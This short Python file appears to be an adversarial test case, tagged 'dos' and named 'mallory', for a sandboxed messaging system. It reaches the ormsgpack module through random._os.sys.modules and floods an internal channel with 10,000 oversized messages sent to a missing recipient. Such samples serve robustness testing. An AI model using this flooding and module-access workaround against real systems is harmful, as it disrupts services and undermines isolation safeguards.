# META {"kind": "dos", "goal": "dos", "args": [], "slots": {"name": "mallory"}}
import random
def m(self):
    msgpack = random._os.sys.modules["ormsgpack"]
    me = self._world.codec.pack(self)
    empty = msgpack.packb([])
    for number in range(10_000):
        slots = {f"slot{number}": msgpack.packb("x" * 100_000)}
        self._world._channel.send(["send", me, "missing", empty, msgpack.packb({}), slots, []])
